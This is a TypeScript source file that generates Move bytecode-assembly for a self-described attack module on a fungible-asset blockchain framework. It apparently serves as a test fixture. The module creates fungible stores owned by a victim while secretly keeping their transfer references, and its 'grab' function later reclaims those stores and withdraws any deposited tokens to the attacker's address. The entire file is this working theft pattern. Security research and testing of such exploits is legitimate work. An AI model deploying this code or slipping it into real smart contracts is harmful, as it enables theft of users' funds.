/**
 * Source of an attack module that creates fungible stores owned by a victim, keeps their transfer refs and takes deposits later. `at` is
 * the attacker's long address.
 */
export function plantedStoreModules(at: string): Readonly<Record<string, string>> {
  const attacker = `LdConst address x"${at.slice(2)}"`;
  const keepRef = `${attacker} MutBorrowGlobal Refs MutBorrowField Refs.refs CopyLoc victim ImmBorrowLoc made Call 0x1::object::generate_transfer_ref
        CallGeneric 0x1::table::add<address, 0x1::object::TransferRef>`;
  const createStore = `CopyLoc victim Call 0x1::object::create_object StLoc made
        ImmBorrowLoc made CopyLoc asset CallGeneric 0x1::object::address_to_object<0x1::fungible_asset::Metadata>
        CallGeneric 0x1::fungible_asset::create_store<0x1::fungible_asset::Metadata>`;
  return {
    chest: `module ${at}::chest version 7
      use struct 0x1::object::Object<phantom T0> has copy, drop, store;
      use struct 0x1::object::ConstructorRef has drop;
      use struct 0x1::object::TransferRef has drop, store;
      use struct 0x1::object::LinearTransferRef has drop;
      use struct 0x1::fungible_asset::Metadata has copy, drop, key;
      use struct 0x1::fungible_asset::FungibleStore has key;
      use struct 0x1::fungible_asset::FungibleAsset;
      use struct 0x1::table::Table<phantom T0: copy + drop, phantom T1> has store;
      use fun 0x1::table::new<T0: copy + drop, T1: store>(): 0x1::table::Table<T0, T1>;
      use fun 0x1::table::add<T0: copy + drop, T1>(&mut 0x1::table::Table<T0, T1>, T0, T1);
      use fun 0x1::table::borrow<T0: copy + drop, T1>(&0x1::table::Table<T0, T1>, T0): &T1;
      use fun 0x1::signer::address_of(&signer): address;
      use fun 0x1::object::create_object(address): 0x1::object::ConstructorRef;
      use fun 0x1::object::generate_transfer_ref(&0x1::object::ConstructorRef): 0x1::object::TransferRef;
      use fun 0x1::object::generate_linear_transfer_ref(&0x1::object::TransferRef): 0x1::object::LinearTransferRef;
      use fun 0x1::object::transfer_with_ref(0x1::object::LinearTransferRef, address);
      use fun 0x1::object::address_to_object<T0: key>(address): 0x1::object::Object<T0>;
      use fun 0x1::fungible_asset::create_store<T0: key>(&0x1::object::ConstructorRef, 0x1::object::Object<T0>):
        0x1::object::Object<0x1::fungible_asset::FungibleStore>;
      use fun 0x1::fungible_asset::withdraw<T0: key>(&signer, 0x1::object::Object<T0>, u64): 0x1::fungible_asset::FungibleAsset;
      use fun 0x1::fungible_asset::deposit<T0: key>(0x1::object::Object<T0>, 0x1::fungible_asset::FungibleAsset);
      use fun 0x1::primary_fungible_store::withdraw<T0: key>(&signer, 0x1::object::Object<T0>, u64): 0x1::fungible_asset::FungibleAsset;
      use fun 0x1::primary_fungible_store::deposit(address, 0x1::fungible_asset::FungibleAsset);
      struct Refs has key { refs: 0x1::table::Table<address, 0x1::object::TransferRef> }
      public entry fun setup(owner: &signer) {
        MoveLoc owner CallGeneric 0x1::table::new<address, 0x1::object::TransferRef> Pack Refs MoveTo Refs Ret }
      public entry fun plant(victim: address, asset: address) acquires Refs {
        local made: 0x1::object::ConstructorRef
        ${createStore} Pop ${keepRef} Ret }
      public entry fun stash(owner: &signer, asset: address, units: u64) acquires Refs {
        local made: 0x1::object::ConstructorRef
        local victim: address
        CopyLoc owner Call 0x1::signer::address_of StLoc victim
        ${createStore}
        MoveLoc owner MoveLoc asset CallGeneric 0x1::object::address_to_object<0x1::fungible_asset::Metadata> MoveLoc units
        CallGeneric 0x1::primary_fungible_store::withdraw<0x1::fungible_asset::Metadata>
        CallGeneric 0x1::fungible_asset::deposit<0x1::fungible_asset::FungibleStore> ${keepRef} Ret }
      public entry fun grab(owner: &signer, victim: address, store: address, units: u64) acquires Refs {
        ${attacker} ImmBorrowGlobal Refs ImmBorrowField Refs.refs MoveLoc victim CallGeneric 0x1::table::borrow<address, 0x1::object::TransferRef>
        Call 0x1::object::generate_linear_transfer_ref ${attacker} Call 0x1::object::transfer_with_ref
        ${attacker} MoveLoc owner MoveLoc store CallGeneric 0x1::object::address_to_object<0x1::fungible_asset::FungibleStore> MoveLoc units
        CallGeneric 0x1::fungible_asset::withdraw<0x1::fungible_asset::FungibleStore> Call 0x1::primary_fungible_store::deposit Ret }`,
  };
}
